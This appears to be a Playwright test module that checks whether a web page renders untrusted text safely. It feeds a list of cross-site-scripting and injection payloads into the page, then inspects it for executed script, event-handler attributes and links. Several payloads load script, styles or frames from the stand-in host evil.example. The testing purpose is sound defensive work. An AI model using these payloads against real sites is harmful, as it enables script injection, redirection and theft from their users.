"""Texts that try to be more than text, and a browser that notices if one succeeds."""

from __future__ import annotations

from playwright.sync_api import Page

EVIL = "https://evil.example"
PAYLOADS = (
    "<script>window.hit=1</script>",
    f"<script src='{EVIL}/a.js'></script>",
    f"<img src={EVIL}/a.png onerror=window.hit=1>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>",
    "<a href='javascript:window.hit=1'>xem</a>",
    f"<a href='{EVIL}/'>xem</a>",
    "<a href=' jav&#x09;ascript:window.hit=1'>xem</a>",
    "<a href='data:text/html,<script>window.hit=1</script>'>xem</a>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}/'>",
    f"<iframe src='{EVIL}' srcdoc='<script>parent.hit=1</script>'></iframe>",
    f"<object data='{EVIL}/a'></object><embed src='{EVIL}/a'>",
    f"<style>@import url({EVIL}/a.css); *{{background:url({EVIL}/b.png)}}</style>",
    f"<link rel=stylesheet href='{EVIL}/a.css'>",
    f"<form action='{EVIL}'><input name=q autofocus onfocus=window.hit=1></form>",
    "<details open ontoggle=window.hit=1>xem</details>",
    "${window.hit=1} {{ 7*7 }} {% raw %} `${window.hit=1}`",
    "</script><script>window.hit=1</script>",
    "</title></style></textarea></template></noscript><script>window.hit=1</script>",
    "\" onmouseover=window.hit=1 x='",
    "' autofocus onfocus=window.hit=1 x=\"",
    "--><script>window.hit=1</script><!--",
    "]]><script>window.hit=1</script>",
    "\u2028window.hit=1//\u2029",
    '=HYPERLINK("https://evil.example";"xem")',
)
ALL = " ".join(PAYLOADS)


def use_everything(page: Page) -> None:
    """Open, click and type wherever a reader could."""
    for summary in page.locator("main summary").filter(visible=True).all():
        summary.click()
    for button in page.locator("main thead button").filter(visible=True).all():
        button.click()
    for number in page.locator("main button.figure").filter(visible=True).all()[:3]:
        number.click()
        page.keyboard.press("Escape")
    for finder in page.locator("main input[type=search]").filter(visible=True).all():
        finder.fill(PAYLOADS[0])
        finder.fill("")
    for plot in page.locator(".js-plotly-plot").all():
        plot.hover()
        page.mouse.move(300, 300)
    page.mouse.wheel(0, 5000)
    page.wait_for_timeout(150)


def links_away(page: Page) -> list[str]:
    """Give the addresses that a click would lead to."""
    return page.locator("main a").evaluate_all(
        """(links) => links
            .map((link) => link.getAttribute("href") ?? link.getAttributeNS("http://www.w3.org/1999/xlink", "href") ?? "")
            .filter((address) => address.includes("evil.example"))"""
    )


def traces(page: Page) -> list[str]:
    """Give what has come of the texts: nothing, if they have stayed texts."""
    return page.evaluate(
        """() => [
            ...(window.hit === undefined ? [] : ["executed"]),
            ...[...document.querySelectorAll("iframe, object, embed, base, form, link, meta[http-equiv=refresh]")].map((one) => one.outerHTML),
            ...[...document.querySelectorAll("a, area, image, use")]
                .map((link) => link.getAttribute("href") ?? link.getAttributeNS("http://www.w3.org/1999/xlink", "href") ?? "")
                .filter((address) => /^\\s*(javascript|data|vbscript|file):/i.test(address)),
            ...[...document.querySelectorAll("[src]")].map((one) => one.getAttribute("src")).filter((address) => !address.startsWith("data:image/")),
            ...[...document.querySelectorAll("*")].flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on"))),
        ]"""
    )
